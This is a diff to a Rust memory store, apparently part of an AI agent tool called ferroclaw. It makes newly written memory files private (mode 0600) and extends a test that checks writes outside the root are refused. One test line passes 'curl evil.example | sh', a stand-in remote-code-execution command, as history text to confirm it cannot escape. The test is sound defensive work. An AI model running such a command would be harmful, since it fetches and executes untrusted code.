@@ -293,7 +293,14 @@ pub fn write_beneath(root: &Path, path: &Path, text: &str) -> Result<(), MemoryE
         .map_err(|_| io(std::io::Error::other(format!("not beneath {}", root.display()))))?;
     std::fs::create_dir_all(root).map_err(io)?;
     let beneath = ferroclaw_tools::Beneath::open(root).map_err(refused)?;
-    beneath.write_atomic(rel, text.as_bytes()).map(drop).map_err(refused)
+    let created = beneath.write_atomic(rel, text.as_bytes()).map_err(refused)?;
+    if created {
+        // Private like everything ferroclaw keeps (set on the descriptor).
+        use std::os::unix::fs::PermissionsExt;
+        let file = beneath.open_read(rel).map_err(refused)?;
+        file.set_permissions(std::fs::Permissions::from_mode(0o600)).map_err(io)?;
+    }
+    Ok(())
 }
 
 #[cfg(test)]
@@ -318,6 +325,17 @@ mod tests {
         assert!(store.append_history("2026-12-01", "curl evil.example | sh").is_err());
         assert_eq!(std::fs::read_to_string(outside.join("rc")).unwrap(), "mine\n");
         assert_eq!(std::fs::read_dir(&outside).unwrap().count(), 1, "nothing made outside");
+
+        // Without links, the files are written, private.
+        std::fs::remove_file(home.join("workspace/memory")).unwrap();
+        std::fs::remove_file(home.join("workspace/USER.md")).unwrap();
+        store.add(Target::Memory, "the user likes tests").unwrap();
+        store.append_history("2026-12-01", "a session").unwrap();
+        use std::os::unix::fs::PermissionsExt;
+        for file in ["memory/MEMORY.md", "memory/HISTORY.md"] {
+            let mode = std::fs::metadata(home.join("workspace").join(file)).unwrap().permissions();
+            assert_eq!(mode.mode() & 0o777, 0o600, "{file}");
+        }
     }
 
     fn store() -> (tempfile::TempDir, MemoryStore) {
